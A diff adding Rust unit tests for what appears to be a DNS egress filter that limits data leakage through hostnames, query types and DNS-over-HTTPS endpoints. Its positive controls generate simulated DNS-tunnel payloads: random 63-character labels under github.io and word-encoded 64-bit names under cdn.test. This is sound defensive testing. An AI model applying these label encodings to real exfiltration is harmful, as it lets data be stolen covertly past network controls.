+        assert_eq!(budget_domain("x.co.uk", "*.co.uk"), "co.uk");
+        assert_eq!(budget_domain("a.b.test", "*"), "test");
+        assert_eq!(
+            budget_domain("b1.s3.amazonaws.com", "*.amazonaws.com"),
+            "s3.amazonaws.com"
+        );
+        assert_eq!(budget_domain("a.b.test", "a.b.test"), "b.test");
+        // psl.py: one 63-char [a-z0-9] label per name right under github.io.
+        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
+        let mut rng = 3u64;
+        let names: Vec<String> = (0..2000)
+            .map(|_| {
+                let label: String = (0..63)
+                    .map(|_| {
+                        rng = rng
+                            .wrapping_mul(6364136223846793005)
+                            .wrapping_add(1442695040888963407);
+                        ALPHABET[((rng >> 33) % 36) as usize] as char
+                    })
+                    .collect();
+                label + ".github.io"
+            })
+            .collect();
+        let (before, after) = leaked(&names, "*.github.io", 63.0 * 36f32.log2());
+        eprintln!("public suffix: {before} bytes before, {after} after (hard {HARD})");
+        assert!(before > 4.0 * HARD, "positive control: {before}");
+        assert!(after < HARD, "{after}");
+    }
+
+    #[test]
+    fn reused_labels_are_charged_for_the_choice_they_carry() {
+        // 256 words, 8 a name: 64 bits of payload a name.
+        let words: Vec<String> = (0..256).map(|i| format!("w{i:03}")).collect();
+        let mut rng = 3u64;
+        let names: Vec<String> = (0..8000)
+            .map(|_| {
+                let mut n = String::new();
+                for _ in 0..8 {
+                    rng = rng
+                        .wrapping_mul(6364136223846793005)
+                        .wrapping_add(1442695040888963407);
+                    n.push_str(&words[(rng >> 56) as usize]);
+                    n.push('.');
+                }
+                n + "cdn.test"
+            })
+            .collect();
+        let (before, after) = leaked(&names, "*.cdn.test", 64.0);
+        eprintln!("reused labels: {before} bytes before, {after} after (hard {HARD})");
+        assert!(before > 2.0 * HARD, "positive control: {before}");
+        assert!(after < HARD, "{after}");
+    }
+
+    #[test]
+    fn qtypes_parse_and_merge() {
+        let t = parse_qtypes(&["txt".into(), "TYPE65300".into(), "NULL".into()]).unwrap();
+        assert_eq!(
+            &*t,
+            &[
+                RecordType::TXT,
+                RecordType::Unknown(65300),
+                RecordType::NULL
+            ]
+        );
+        assert!(parse_qtypes(&["BOGUS".into()]).is_err());
+        assert!(parse_qtypes(&["AXFR".into()]).is_err());
+        let m = merge_qtypes("*.x.test", &Some(t), &None).unwrap();
+        assert!(m.contains(&RecordType::A) && m.contains(&RecordType::TXT));
+        assert_eq!(
+            merge_qtypes("x.test", &None, &Some([RecordType::TXT].into())),
+            None
+        );
+    }
+
+    #[test]
+    fn doh_endpoints_are_found_under_patterns() {
+        assert_eq!(doh_endpoint("dns.google"), Some("dns.google"));
+        assert_eq!(doh_endpoint("*.google"), Some("dns.google"));
+        assert_eq!(
+            doh_endpoint("*.cloudflare-dns.com"),
+            Some("1dot1dot1dot1.cloudflare-dns.com")
+        );
+        assert_eq!(doh_endpoint("www.google.com"), None);
+        assert_eq!(doh_endpoint("*.example.com"), None);
+    }
+}
